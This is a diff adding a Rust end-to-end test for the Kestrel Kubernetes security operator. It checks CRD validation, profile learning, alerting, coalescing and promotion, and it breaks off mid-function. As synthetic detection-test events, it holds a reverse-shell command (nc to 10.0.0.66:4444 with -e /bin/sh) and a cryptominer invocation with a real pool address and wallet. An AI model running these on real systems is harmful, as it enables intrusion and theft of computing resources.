@@ -1,0 +1,1037 @@
+//! `make e2e-k8s`, API side (issue 12): Kestrel's custom resources and the
+//! operator as a controller, on a real Kubernetes API server.
+//!
+//! What is real: etcd, kube-apiserver, controller-manager and scheduler
+//! (v1.20, `k8s-testenv`), the generated CRDs, `kubectl`, the operator
+//! binary (`kestrel-operator --kubernetes`) with the embedding model, and the
+//! gRPC transport with mutual TLS. What stands in for the node side (issue
+//! 13): there is no kubelet, so this harness does the kubelet's two writes
+//! for each pod of the test Deployment (the binding to a node and a status
+//! with running containers and their `containerd://` ids), and a test agent
+//! streams the events a node agent forwards for those containers: the
+//! workload's loop (`date`, `wget` with request ids, `sleep`), then a miner.
+//!
+//! Checks, in order (each prints PASS or FAIL with what it saw):
+//! 1. the CRDs install and are Established; invalid objects are rejected by
+//!    the API server with the schema's message; a valid promoted profile is
+//!    accepted;
+//! 2. the Deployment's profile is created by the operator and goes
+//!    Learning → Detecting; `kubectl wait --for=condition=Converged` returns;
+//! 3. a miner in one replica makes one SecurityAlert naming that pod, and
+//!    none names the other replicas; `kubectl describe` shows it;
+//! 4. `kubectl get bp`, `salert` and `kestrel` show the printer columns;
+//! 5. a core Event on the pod for the High alert, and on the profile for its
+//!    phase changes;
+//! 6. the miner repeated 1,000 times over 40 s stays one object whose count
+//!    is written at most once per 30 s (a `kubectl get --watch` counts the
+//!    updates);
+//! 7. promotion: the learned profile exported, deleted and re-applied as
+//!    `source: Promoted, mode: Detect` is in force at once (a reverse shell
+//!    in another replica alerts), and the operator owns only its status
+//!    (managedFields) and leaves its spec as applied;
+//! 8. the operator stops cleanly (SIGTERM) and its last write holds every
+//!    repeat (`status.count` 1,001).
+
+use anyhow::{bail, Context, Result};
+use kestrel_e2e::k8s::TestEnv;
+use kestrel_events::{
+    Ancestor, Argv, ByteStr, ContainerRef, Event, EventKind, Exec, Namespaces, Runtime, Task,
+};
+use kestrel_proto::client::{AgentClient, ClientConfig};
+use kestrel_proto::{ClientTls, Hello, TlsMaterial, WorkloadEvent};
+use serde_json::{json, Value};
+use std::io::{BufRead, BufReader};
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+const NODE: &str = "kestrel-e2e-node";
+const NS: &str = "shop";
+const CONFIG: &str = "learning:
+  window: 4s
+  minLearningTime: 16s
+  cleanWindows: 1
+  maxNewPerWindow: 0
+";
+
+struct Report {
+    rows: Vec<(String, bool, String)>,
+}
+
+impl Report {
+    fn check(&mut self, name: &str, ok: bool, detail: impl Into<String>) {
+        let detail = detail.into();
+        println!("{} {name}: {detail}", if ok { "PASS" } else { "FAIL" });
+        self.rows.push((name.to_string(), ok, detail));
+    }
+
+    fn failed(&self) -> usize {
+        self.rows.iter().filter(|r| !r.1).count()
+    }
+}
+
+fn main() -> Result<()> {
+    let t0 = Instant::now();
+    let operator = kestrel_e2e::sibling_binary("kestrel-operator")?;
+    let work = std::env::temp_dir().join(format!("kestrel-e2e-k8s-{}", std::process::id()));
+    std::fs::create_dir_all(&work)?;
+    println!("== control plane (k8s-testenv) ==");
+    let env = TestEnv::up(work.join("kt"))?;
+    println!("   up after {:.1}s", t0.elapsed().as_secs_f64());
+    let mut report = Report { rows: Vec::new() };
+
+    let t = Instant::now();
+    crds(&env, &mut report)?;
+    println!("   crds: {:.1}s", t.elapsed().as_secs_f64());
+
+    let t = Instant::now();
+    let result = learn_and_detect(&env, &operator, &work, &mut report);
+    println!("   learn and detect: {:.1}s", t.elapsed().as_secs_f64());
+    if let Err(e) = &result {
+        report.check("learn and detect", false, format!("{e:#}"));
+        let log = std::fs::read_to_string(work.join("operator.log")).unwrap_or_default();
+        let tail: Vec<&str> = log.lines().rev().take(40).collect();
+        eprintln!("--- operator log (last 40 lines) ---");
+        for l in tail.into_iter().rev() {
+            eprintln!("{l}");
+        }
+    }
+
+    println!("\n== report ({:.0}s) ==", t0.elapsed().as_secs_f64());
+    println!("{:<58} result", "check");
+    for (name, ok, _) in &report.rows {
+        println!("{name:<58} {}", if *ok { "pass" } else { "FAIL" });
+    }
+    let failed = report.failed();
+    drop(env);
+    if failed > 0 {
+        bail!("{failed} of {} checks failed", report.rows.len());
+    }
+    let _ = std::fs::remove_dir_all(&work);
+    Ok(())
+}
+
+fn crd_dir() -> std::path::PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/crds")
+}
+
+/// Acceptance 1 (the schema side).
+fn crds(env: &TestEnv, r: &mut Report) -> Result<()> {
+    println!("== custom resource definitions ==");
+    let dir = crd_dir();
+    env.kubectl(&["apply", "-f", &dir.to_string_lossy()])?;
+    let est = env.run_kubectl(
+        &[
+            "wait",
+            "--for=condition=Established",
+            "--timeout=60s",
+            "crd/behaviorprofiles.kestrel.dev",
+            "crd/securityalerts.kestrel.dev",
+        ],
+        None,
+    )?;
+    r.check("CRDs established", est.0, est.1.trim().replace('\n', "; "));
+    env.kubectl(&["create", "namespace", "e2e"])?;
+
+    let profile = |spec: Value| {
+        json!({
+            "apiVersion": "kestrel.dev/v1alpha1", "kind": "BehaviorProfile",
+            "metadata": {"name": "sample", "namespace": "e2e"}, "spec": spec
+        })
+        .to_string()
+    };
+    let invalid = [
+        (
+            "mode outside the enum",
+            profile(json!({"source": "Promoted", "mode": "Sometimes"})),
+            "spec.mode",
+        ),
+        (
+            "source missing",
+            profile(json!({"mode": "Detect"})),
+            "spec.source",
+        ),
+        (
+            "workload kind outside the enum",
+            profile(json!({"source": "Learned", "workload": {"kind": "Rocket", "name": "x"}})),
+            "spec.workload.kind",
+        ),
+        (
+            "workload name longer than 253",
+            profile(
+                json!({"source": "Learned", "workload": {"kind": "Deployment", "name": "n".repeat(300)}}),
+            ),
+            "spec.workload.name",
+        ),
+        (
+            "unknown alert severity",
+            json!({
+                "apiVersion": "kestrel.dev/v1alpha1", "kind": "SecurityAlert",
+                "metadata": {"name": "bad", "namespace": "e2e"},
+                "spec": {"id": "00", "title": "t", "severity": "Apocalyptic", "score": 1.0}
+            })
+            .to_string(),
+            "spec.severity",
+        ),
+        (
+            "alert score above 100",
+            json!({
+                "apiVersion": "kestrel.dev/v1alpha1", "kind": "SecurityAlert",
+                "metadata": {"name": "bad", "namespace": "e2e"},
+                "spec": {"id": "00", "title": "t", "severity": "High", "score": 170.0}
+            })
+            .to_string(),
+            "spec.score",
+        ),
+    ];
+    for (what, doc, field) in invalid {
+        // --validate=false: the API server, not kubectl, must refuse it
+        let (ok, _, err) =
+            env.run_kubectl(&["create", "--validate=false", "-f", "-"], Some(&doc))?;
+        let named = err.contains(field);
+        r.check(
+            &format!("rejected: {what}"),
+            !ok && named,
+            err.trim().chars().take(220).collect::<String>(),
+        );
+    }
+    let valid = profile(json!({
+        "source": "Promoted", "mode": "Detect",
+        "workload": {"kind": "Deployment", "name": "sample"},
+        "baseline": {}
+    }));
+    let (ok, out, err) =
+        env.run_kubectl(&["create", "--validate=false", "-f", "-"], Some(&valid))?;
+    r.check(
+        "a valid promoted profile is accepted",
+        ok,
+        format!("{}{}", out.trim(), err.trim()),
+    );
+    let cols = env.kubectl(&["get", "bp", "-n", "e2e"])?;
+    let header = cols.lines().next().unwrap_or_default().to_string();
+    let want = [
+        "NAME",
+        "WORKLOAD",
+        "MODE",
+        "PHASE",
+        "PROCESSES",
+        "FILES",
+        "PEERS",
+        "EXEMPLARS",
+        "CONVERGED",
+        "AGE",
+    ];
+    r.check(
+        "kubectl get bp shows the profile columns",
+        want.iter()
+            .all(|w| header.split_whitespace().any(|h| h == *w)),
+        header,
+    );
+    env.kubectl(&["delete", "namespace", "e2e", "--wait=false"])?;
+    Ok(())
+}
+
+/// A pod of the test Deployment, as the harness made it run.
+struct PodRun {
+    name: String,
+    container_id: String,
+    main_pid: u32,
+    cgroup: u64,
+}
+
+fn learn_and_detect(env: &TestEnv, operator: &Path, work: &Path, r: &mut Report) -> Result<()> {
+    println!("== a Deployment of 3 replicas, learned then attacked ==");
+    env.kubectl(&["create", "namespace", NS])?;
+    env.kubectl_stdin(
+        &["apply", "-f", "-"],
+        Some(&json!({"apiVersion": "v1", "kind": "Node", "metadata": {"name": NODE}}).to_string()),
+    )?;
+    let deployment = json!({
+        "apiVersion": "apps/v1", "kind": "Deployment",
+        "metadata": {"name": "web", "namespace": NS},
+        "spec": {
+            "replicas": 3,
+            "selector": {"matchLabels": {"app": "web"}},
+            "template": {
+                "metadata": {"labels": {"app": "web"}},
+                "spec": {"containers": [{
+                    "name": "app", "image": "busybox:1.36",
+                    "command": ["sh", "-c", "while true; do date; wget -q -O- http://backend:8080/api; sleep 1; done"]
+                }]}
+            }
+        }
+    });
+    env.kubectl_stdin(&["apply", "-f", "-"], Some(&deployment.to_string()))?;
+    let pods = run_pods(env, 3)?;
+    r.check(
+        "3 replicas bound and running (the kubelet's writes)",
+        pods.len() == 3,
+        pods.iter()
+            .map(|p| p.name.as_str())
+            .collect::<Vec<_>>()
+            .join(", "),
+    );
+
+    // the operator, against the API server
+    let (state, tls) = (work.join("state"), work.join("tls"));
+    std::fs::create_dir_all(&state)?;
+    let cfg = work.join("config.yaml");
+    std::fs::write(&cfg, CONFIG)?;
+    let log = std::fs::File::create(work.join("operator.log"))?;
+    let mut op = Command::new(operator)
+        .args(["--kubernetes", "--listen", "127.0.0.1:0", "--agents", NODE])
+        .args(["--profile-flush-secs", "2", "--progress-every", "5"])
+        .arg("--state-dir")
+        .arg(&state)
+        .arg("--tls-dir")
+        .arg(&tls)
+        .arg("--config")
+        .arg(&cfg)
+        .env("KUBECONFIG", &env.kubeconfig)
+        .env("RUST_LOG", "info")
+        .stdout(log.try_clone()?)
+        .stderr(Stdio::piped())
+        .spawn()
+        .context("kestrel-operator")?;
+    let result = with_operator(env, &mut op, &log, &tls, &pods, r);
+    // SIGTERM: the operator writes what it holds back, then exits
+    // SAFETY: kill with a pid of a child we own.
+    unsafe { libc::kill(op.id() as i32, libc::SIGTERM) };
+    let status = wait_timeout(&mut op, Duration::from_secs(30));
+    r.check(
+        "the operator stops on SIGTERM",
+        status.as_ref().is_some_and(|s| s.success()),
+        format!("{status:?}"),
+    );
+    if let Ok(Some((name, sent))) = &result {
+        let count = env.kubectl(&[
+            "get",
+            "salert",
+            name,
+            "-n",
+            NS,
+            "-o",
+            "jsonpath={.status.count}",
+        ])?;
+        r.check(
+            "after SIGTERM the alert's count holds every repeat (none lost to coalescing)",
+            count.trim() == sent.to_string(),
+            format!("status.count {} of {sent} occurrences", count.trim()),
+        );
+    }
+    result.map(|_| ())
+}
+
+fn with_operator(
+    env: &TestEnv,
+    op: &mut Child,
+    log: &std::fs::File,
+    tls: &Path,
+    pods: &[PodRun],
+    r: &mut Report,
+) -> Result<Option<(String, u64)>> {
+    let addr = listening(op, log)?;
+    let runtime = tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(1)
+        .enable_all()
+        .build()?;
+    let material = TlsMaterial::load_or_generate(tls, &["localhost", "127.0.0.1"], &[NODE])?;
+    let client_tls = ClientTls::from_material(&material, Some(NODE))?;
+    let hello = Hello {
+        node_name: NODE.into(),
+        agent_id: "kestrel-e2e-k8s".into(),
+        version: env!("CARGO_PKG_VERSION").into(),
+        boot_id: "e2e".into(),
+        instance: 0,
+    };
+    let (agent, mut inbound) = runtime.block_on(AgentClient::connect_with(
+        ClientConfig::new(format!("https://{addr}")),
+        client_tls,
+        hello,
+    ))?;
+    runtime.spawn(async move { while inbound.recv().await.is_some() {} });
+
+    // learning: the loop of every replica until the profile detects
+    let mut clock = Clock::default();
+    let profile = "deployment-web";
+    let t = Instant::now();
+    let mut phases: Vec<String> = Vec::new();
+    let mut i = 0u64;
+    loop {
+        let batch: Vec<WorkloadEvent> =
+            pods.iter().flat_map(|p| benign(p, i, &mut clock)).collect();
+        agent
+            .send(batch)
+            .map_err(|_| anyhow::anyhow!("agent queue full"))?;
+        i += 1;
+        std::thread::sleep(Duration::from_millis(250));
+        if i.is_multiple_of(4) {
+            let phase = env
+                .run_kubectl(
+                    &[
+                        "get",
+                        "bp",
+                        profile,
+                        "-n",
+                        NS,
+                        "-o",
+                        "jsonpath={.status.phase}",
+                    ],
+                    None,
+                )?
+                .1;
+            if !phase.is_empty() && phases.last() != Some(&phase) {
+                println!(
+                    "   {profile}: {phase} after {:.0}s",
+                    t.elapsed().as_secs_f64()
+                );
+                phases.push(phase.clone());
+            }
+            if phase == "Detecting" || t.elapsed() > Duration::from_secs(150) {
+                break;
+            }
+        }
+    }
+    r.check(
+        "the operator created the profile and it went Learning → Detecting",
+        phases.first().map(String::as_str) == Some("Learning")
+            && phases.last().map(String::as_str) == Some("Detecting"),
+        phases.join(" → "),
+    );
+    let (ok, out, err) = env.run_kubectl(
+        &[
+            "wait",
+            "--for=condition=Converged",
+            "--timeout=20s",
+            &format!("bp/{profile}"),
+            "-n",
+            NS,
+        ],
+        None,
+    )?;
+    r.check(
+        "kubectl wait --for=condition=Converged returns",
+        ok,
+        format!("{}{}", out.trim(), err.trim()),
+    );
+    let owner = env.kubectl(&[
+        "get", "bp", profile, "-n", NS, "-o",
+        "jsonpath={.spec.source}/{.spec.workload.kind}/{.spec.workload.name} {.metadata.managedFields[*].manager}",
+    ])?;
+    r.check(
+        "a learned profile of Deployment/web, written by kestrel-operator only",
+        owner.starts_with("Learned/Deployment/web ")
+            && owner
+                .split_once(' ')
+                .is_some_and(|(_, m)| m.split_whitespace().all(|m| m == "kestrel-operator")),
+        owner,
+    );
+
+    // a miner in the first replica; the others keep their loop
+    let victim = &pods[0];
+    let t = Instant::now();
+    for round in 0..3 {
+        let mut batch: Vec<WorkloadEvent> = pods
+            .iter()
+            .flat_map(|p| benign(p, i + round, &mut clock))
+            .collect();
+        if round == 0 {
+            batch.push(miner(victim, &mut clock));
+        }
+        agent
+            .send(batch)
+            .map_err(|_| anyhow::anyhow!("agent queue full"))?;
+        std::thread::sleep(Duration::from_millis(250));
+    }
+    let mut alerts = Value::Null;
+    while t.elapsed() < Duration::from_secs(30) {
+        alerts = serde_json::from_str(&env.kubectl(&["get", "salert", "-n", NS, "-o", "json"])?)?;
+        if alerts["items"].as_array().is_some_and(|a| !a.is_empty()) {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(500));
+    }
+    let items = alerts["items"].as_array().cloned().unwrap_or_default();
+    let names_victim: Vec<&Value> = items
+        .iter()
+        .filter(|a| a["spec"]["evidence"]["pod"] == victim.name.as_str())
+        .collect();
+    let others: Vec<String> = items
+        .iter()
+        .filter(|a| a["spec"]["evidence"]["pod"] != victim.name.as_str())
+        .map(|a| a["spec"]["evidence"]["pod"].to_string())
+        .collect();
+    let summary = names_victim
+        .first()
+        .map(|a| {
+            format!(
+                "{} {} score {} in {:.1}s: {}",
+                a["metadata"]["name"].as_str().unwrap_or_default(),
+                a["spec"]["severity"].as_str().unwrap_or_default(),
+                a["spec"]["score"],
+                t.elapsed().as_secs_f64(),
+                a["spec"]["title"].as_str().unwrap_or_default()
+            )
+        })
+        .unwrap_or_else(|| format!("{} alerts, none for {}", items.len(), victim.name));
+    r.check(
+        "the miner makes one SecurityAlert naming its pod",
+        names_victim.len() == 1
+            && names_victim[0]["spec"]["evidence"]["exe"]
+                .as_str()
+                .is_some_and(|e| e.ends_with("kworker")),
+        summary,
+    );
+    if let Some(a) = names_victim.first() {
+        let severity = a["spec"]["severity"].as_str().unwrap_or_default();
+        let cluster = a["spec"]["breakdown"]["cluster"]["reason"]
+            .as_str()
+            .unwrap_or_default();
+        r.check(
+            "with no LLM, the lone replica's miner is High or Critical (1 of 3 pods)",
+            matches!(severity, "High" | "Critical") && cluster.starts_with("1 of 3 pods"),
+            format!("{severity}; cluster: {cluster}"),
+        );
+    }
+    r.check(
+        "the other replicas raise nothing",
+        others.is_empty(),
+        if others.is_empty() {
+            "no other alert".to_string()
+        } else {
+            others.join(", ")
+        },
+    );
+    if let Some(a) = names_victim.first() {
+        let name = a["metadata"]["name"].as_str().unwrap_or_default();
+        let describe = env.kubectl(&["describe", "salert", name, "-n", NS])?;
+        println!("--- kubectl describe salert {name} ---");
+        for l in describe.lines().take(60) {
+            println!("   {l}");
+        }
+        r.check(
+            "kubectl describe salert names the pod, the process and the advice",
+            describe.contains(&victim.name)
+                && describe.contains("stratum+tcp")
+                && describe.contains("Recommendation"),
+            format!("{} lines", describe.lines().count()),
+        );
+    }
+    for (what, args, want) in [
+        (
+            "bp",
+            vec!["get", "bp", "-n", NS],
+            vec!["WORKLOAD", "MODE", "PHASE", "EXEMPLARS", "CONVERGED"],
+        ),
+        (
+            "salert",
+            vec!["get", "salert", "-n", NS],
+            vec!["SEVERITY", "SCORE", "WORKLOAD", "POD", "COUNT", "STATE"],
+        ),
+        (
+            "kestrel",
+            vec!["get", "kestrel", "-n", NS],
+            vec!["behaviorprofile.kestrel.dev/", "securityalert.kestrel.dev/"],
+        ),
+    ] {
+        let out = env.kubectl(&args)?;
+        println!("--- kubectl {} ---", args.join(" "));
+        for l in out.lines() {
+            println!("   {l}");
+        }
+        r.check(
+            &format!("kubectl get {what} shows its columns"),
+            want.iter().all(|w| out.contains(w)),
+            out.lines().next().unwrap_or_default().to_string(),
+        );
+    }
+    // core Events: on the pod for the alert, on the profile for its phases
+    let pod_events = env.kubectl(&[
+        "get",
+        "events",
+        "-n",
+        NS,
+        "--field-selector",
+        &format!("involvedObject.name={}", victim.name),
+        "-o",
+        "jsonpath={range .items[*]}{.type} {.reason}: {.message}{\"\\n\"}{end}",
+    ])?;
+    r.check(
+        "an Event on the pod for the High alert",
+        pod_events
+            .lines()
+            .any(|l| l.starts_with("Warning SecurityAlert: ")),
+        pod_events
+            .lines()
+            .find(|l| l.starts_with("Warning SecurityAlert: "))
+            .unwrap_or("no SecurityAlert event")
+            .to_string(),
+    );
+    let profile_events = env.kubectl(&[
+        "get",
+        "events",
+        "-n",
+        NS,
+        "--field-selector",
+        "involvedObject.kind=BehaviorProfile",
+        "-o",
+        "jsonpath={range .items[*]}{.reason} {end}",
+    ])?;
+    r.check(
+        "Events on the profile for its phase changes",
+        profile_events.contains("Learning") && profile_events.contains("Detecting"),
+        profile_events.trim().to_string(),
+    );
+
+    // the same attack repeated 1,000 times: one object, its count updated
+    // at most once per 30 s
+    let Some(name) = names_victim
+        .first()
+        .and_then(|a| a["metadata"]["name"].as_str())
+        .map(String::from)
+    else {
+        runtime.block_on(agent.close(Duration::from_secs(5)));
+        return Ok(None);
+    };
+    let first_count = names_victim[0]["status"]["count"].as_u64().unwrap_or(0);
+    let watch_out = std::env::temp_dir().join(format!("kestrel-e2e-watch-{}", std::process::id()));
+    let mut watch = Command::new(env.bin.join("kubectl"))
+        .args(["get", "salert", &name, "-n", NS, "--watch", "-o"])
+        .arg("jsonpath={.metadata.resourceVersion} {.status.count}{\"\\n\"}")
+        .env("KUBECONFIG", &env.kubeconfig)
+        .stdout(std::fs::File::create(&watch_out)?)
+        .stderr(Stdio::null())
+        .spawn()?;
+    std::thread::sleep(Duration::from_secs(1));
+    let t = Instant::now();
+    let repeats = 1_000u64;
+    for second in 0..40u64 {
+        let mut batch: Vec<WorkloadEvent> = pods
+            .iter()
+            .flat_map(|p| benign(p, i + 10 + second, &mut clock))
+            .collect();
+        batch.extend((0..repeats / 40).map(|_| miner(victim, &mut clock)));
+        agent
+            .send(batch)
+            .map_err(|_| anyhow::anyhow!("agent queue full"))?;
+        std::thread::sleep(Duration::from_secs(1));
+    }
+    std::thread::sleep(Duration::from_secs(2));
+    let seconds = t.elapsed().as_secs_f64();
+    let _ = watch.kill();
+    let _ = watch.wait();
+    let seen = std::fs::read_to_string(&watch_out).unwrap_or_default();
+    let _ = std::fs::remove_file(&watch_out);
+    // the first line is the object as it was when the watch began
+    let updates: Vec<&str> = seen.lines().skip(1).collect();
+    let bound = (seconds / 30.0).ceil() as usize + 1;
+    let alerts: Value =
+        serde_json::from_str(&env.kubectl(&["get", "salert", "-n", NS, "-o", "json"])?)?;
+    let objects = alerts["items"].as_array().map_or(0, Vec::len);
+    r.check(
+        &format!("{repeats} repeats: one object, at most one write per 30 s"),
+        objects == 1 && updates.len() <= bound && !updates.is_empty(),
+        format!(
+            "{objects} alert object(s); {} update(s) in {seconds:.0}s (bound {bound}): {}",
+            updates.len(),
+            updates.join(", ")
+        ),
+    );
+    promotion(env, &agent, pods, &mut clock, i + 60, r)?;
+    runtime.block_on(agent.close(Duration::from_secs(5)));
+    Ok(Some((name, first_count + repeats)))
+}
+
+/// Acceptance 3: export the learned profile, delete it, re-apply it as
+/// `source: Promoted, mode: Detect`; the operator applies it at once (a new
+/// anomaly alerts), writes only its status, and never its spec.
+fn promotion(
+    env: &TestEnv,
+    agent: &AgentClient,
+    pods: &[PodRun],
+    clock: &mut Clock,
+    i: u64,
+    r: &mut Report,
+) -> Result<()> {
+    let profile = "deployment-web";
+    let learned: Value =
+        serde_json::from_str(&env.kubectl(&["get", "bp", profile, "-n", NS, "-o", "json"])?)?;
+    let promoted = json!({
+        "apiVersion": "kestrel.dev/v1alpha1", "kind": "BehaviorProfile",
+        "metadata": {"name": profile, "namespace": NS},
+        "spec": {
+            "source": "Promoted", "mode": "Detect",
+            "workload": learned["spec"]["workload"],
+            "baseline": learned["status"]["learned"],
+        }
+    });
+    env.kubectl(&["delete", "bp", profile, "-n", NS])?;
+    env.kubectl_stdin(&["create", "-f", "-"], Some(&promoted.to_string()))?;
+    let applied_spec = serde_json::from_str::<Value>(
+        &env.kubectl(&["get", "bp", profile, "-n", NS, "-o", "json"])?,
+    )?["spec"]
+        .clone();
+    // the promoted profile in force: its status written by the operator
+    let t = Instant::now();
+    let mut state = String::new();
+    while t.elapsed() < Duration::from_secs(20) {
+        let batch: Vec<WorkloadEvent> = pods.iter().flat_map(|p| benign(p, i, clock)).collect();
+        agent
+            .send(batch)
+            .map_err(|_| anyhow::anyhow!("agent queue full"))?;
+        state = env.kubectl(&[
+            "get",
+            "bp",
+            profile,
+            "-n",
+            NS,
+            "-o",
+            "jsonpath={.spec.source} {.status.phase}",
+        ])?;
+        if state == "Promoted Detecting" {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(500));
+    }
+    r.check(
+        "promotion: the re-applied Promoted/Detect profile is in force",
+        state == "Promoted Detecting",
+        format!("{state} after {:.1}s", t.elapsed().as_secs_f64()),
+    );
+    // detection at once: a reverse shell in the second replica
+    let target = &pods[1];
+    let t = Instant::now();
+    agent
+        .send(vec![exec(
+            target,
+            clock,
+            "sh",
+            "/bin/nc",
+            &["nc", "10.0.0.66", "4444", "-e", "/bin/sh"],
+        )])
+        .map_err(|_| anyhow::anyhow!("agent queue full"))?;
+    let mut found = String::new();
+    while t.elapsed() < Duration::from_secs(20) && found.is_empty() {
+        std::thread::sleep(Duration::from_millis(500));
+        let v: Value =
+            serde_json::from_str(&env.kubectl(&["get", "salert", "-n", NS, "-o", "json"])?)?;
+        if let Some(a) = v["items"].as_array().into_iter().flatten().find(|a| {
+            a["spec"]["evidence"]["pod"] == target.name.as_str()
+                && a["spec"]["evidence"]["exe"]
+                    .as_str()
+                    .is_some_and(|e| e.ends_with("nc"))
+        }) {
+            found = format!(
+                "{} {} {:.1}: {}",
+                a["metadata"]["name"].as_str().unwrap_or_default(),
+                a["spec"]["severity"].as_str().unwrap_or_default(),
+                a["spec"]["score"].as_f64().unwrap_or_default(),
+                a["spec"]["title"].as_str().unwrap_or_default()
+            );
+        }
+    }
+    r.check(
+        "promotion: detection works at once (a reverse shell in another replica alerts)",
+        !found.is_empty(),
+        if found.is_empty() {
+            "no alert".into()
+        } else {
+            found
+        },
+    );
+    // the operator never changes the spec: the generation stays that of
+    // the person's create, the spec is as applied, and where the API server
+    // tracks field owners, kestrel-operator owns status fields only
+    // (kubectl hides managedFields from -o json unless asked)
+    let now: Value = serde_json::from_str(&env.kubectl(&[
+        "get",
+        "bp",
+        profile,
+        "-n",
+        NS,
+        "-o",
+        "json",
+        "--show-managed-fields",
+    ])?)?;
+    let managed = now["metadata"]["managedFields"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default();
+    let owners: Vec<String> = managed
+        .iter()
+        .map(|m| {
+            let fields: Vec<String> = m["fieldsV1"]
+                .as_object()
+                .map(|o| o.keys().cloned().collect())
+                .unwrap_or_default();
+            format!(
+                "{}: {}",
+                m["manager"].as_str().unwrap_or("?"),
+                fields.join(",")
+            )
+        })
+        .collect();
+    let ours: Vec<&Value> = managed
+        .iter()
+        .filter(|m| m["manager"] == "kestrel-operator")
+        .collect();
+    let ours_only_status = !ours.is_empty()
+        && ours.iter().all(|m| {
+            m["fieldsV1"]
+                .as_object()
+                .is_some_and(|o| o.keys().all(|k| k == "f:status"))
+        });
+    let generation = now["metadata"]["generation"].as_i64();
+    r.check(
+        "promotion: the operator never changes the spec (generation 1, spec as applied, managedFields: kestrel-operator owns status only)",
+        generation == Some(1) && now["spec"] == applied_spec && ours_only_status,
+        format!(
+            "generation {generation:?}; spec unchanged: {}; managedFields: [{}]",
+            now["spec"] == applied_spec,
+            owners.join("; ")
+        ),
+    );
+    Ok(())
+}
+
+/// Waits for `n` pods of the Deployment, then does the kubelet's part for
+/// each: bind it to the test node, report its container running.
+fn run_pods(env: &TestEnv, n: usize) -> Result<Vec<PodRun>> {
+    let t = Instant::now();
+    let items = loop {
+        let v: Value = serde_json::from_str(
+            &env.kubectl(&["get", "pods", "-n", NS, "-l", "app=web", "-o", "json"])?,
+        )?;
+        let items = v["items"].as_array().cloned().unwrap_or_default();
+        if items.len() >= n {
+            break items;
+        }
+        if t.elapsed() > Duration::from_secs(60) {
+            bail!("{} of {n} pods after 60 s", items.len());
+        }
+        std::thread::sleep(Duration::from_millis(500));
+    };
+    let mut out = Vec::new();
+    for (i, pod) in items.iter().take(n).enumerate() {
+        let name = pod["metadata"]["name"]
+            .as_str()
+            .context("pod name")?
+            .to_string();
+        if pod["spec"]["nodeName"].as_str() != Some(NODE) {
+            let binding = json!({
+                "apiVersion": "v1", "kind": "Binding",
+                "metadata": {"name": name},
+                "target": {"apiVersion": "v1", "kind": "Node", "name": NODE}
+            });
+            env.kubectl_stdin(
+                &[
+                    "create",
+                    "--raw",
+                    &format!("/api/v1/namespaces/{NS}/pods/{name}/binding"),
+                    "-f",
+                    "-",
+                ],
+                Some(&binding.to_string()),
+            )?;
+        }
+        let mut current: Value =
+            serde_json::from_str(&env.kubectl(&["get", "pod", &name, "-n", NS, "-o", "json"])?)?;
+        let container_id = format!("{:064x}", 0xe2e0_0000_0000_u64 + i as u64 * 0x1_0001);
+        let now = "2026-12-06T00:00:00Z";
+        current["status"] = json!({
+            "phase": "Running",
+            "conditions": [{"type": "Ready", "status": "True"}],
+            "containerStatuses": [{
+                "name": "app", "image": "docker.io/library/busybox:1.36", "imageID": "",
+                "ready": true, "restartCount": 0, "started": true,
+                "containerID": format!("containerd://{container_id}"),
+                "state": {"running": {"startedAt": now}}
+            }]
+        });
+        env.kubectl_stdin(
+            &[
+                "replace",
+                "--raw",
+                &format!("/api/v1/namespaces/{NS}/pods/{name}/status"),
+                "-f",
+                "-",
+            ],
+            Some(&current.to_string()),
+        )?;
+        out.push(PodRun {
+            name,
+            container_id,
+            main_pid: 41_000 + i as u32 * 1_000,
+            cgroup: 9_000 + i as u64,
+        });
+    }
+    Ok(out)
+}
+
+/// Monotonic event time.
+#[derive(Default)]
+struct Clock(u64);
+
+impl Clock {
+    fn next(&mut self) -> u64 {
+        self.0 += 1_000_000;
+        self.0
+    }
+}
+
+/// One pass of the workload's loop in a pod: `date`, `wget` with a request
+/// id that changes every time, `sleep 1`.
+fn benign(p: &PodRun, i: u64, clock: &mut Clock) -> Vec<WorkloadEvent> {
+    let request = format!(
+        "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
+        i * 2_654_435_761 % 0xffff_ffff,
+        i % 0xffff,
+        i % 0xfff,
+        (i * 7) % 0xfff,
+        i * 1_000_003
+    );
+    vec![
+        exec(p, clock, "sh", "/bin/date", &["date"]),
+        exec(
+            p,
+            clock,
+            "sh",
+            "/bin/wget",
+            &[
+                "wget",
+                "-q",
+                "-O-",
+                &format!("http://backend:8080/api?request_id={request}"),
+            ],
+        ),
+        exec(p, clock, "sh", "/bin/sleep", &["sleep", "1"]),
+    ]
+}
+
+/// The attack: a miner renamed `kworker`, dropped in /tmp, run by the
+/// pod's shell.
+fn miner(p: &PodRun, clock: &mut Clock) -> WorkloadEvent {
+    exec(
+        p,
+        clock,
+        "sh",
+        "/tmp/kworker",
+        &[
+            "/tmp/kworker",
+            "-o",
+            "stratum+tcp://pool.supportxmr.com:3333",
+            "-u",
+            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
+            "-p",
+            "x",
+            "--donate-level",
+            "1",
+        ],
+    )
+}
+
+/// An exec event as the node agent forwards it: the new program under the
+/// pod's `sh` loop (pid 1 of the container).
+fn exec(
+    p: &PodRun,
+    clock: &mut Clock,
+    parent: &str,
+    filename: &str,
+    argv: &[&str],
+) -> WorkloadEvent {
+    let pid = p.main_pid + 1 + (clock.0 / 1_000_000 % 20_000) as u32;
+    let exe = filename.rsplit('/').next().unwrap_or(filename);
+    let args: Vec<ByteStr> = argv.iter().map(|a| ByteStr::from(*a)).collect();
+    let size = argv.iter().map(|a| a.len() as u32 + 1).sum();
+    let event = Event {
+        ts_ns: clock.next(),
+        cgroup_id: p.cgroup,
+        task: Some(Task {
+            pid,
+            tid: pid,
+            ppid: p.main_pid,
+            uid: 0,
+            comm: exe.into(),
+        }),
+        ns: Namespaces {
+            pid: 4_026_532_000 + p.cgroup as u32,
+            mnt: 4_026_533_000 + p.cgroup as u32,
+        },
+        container: Some(ContainerRef {
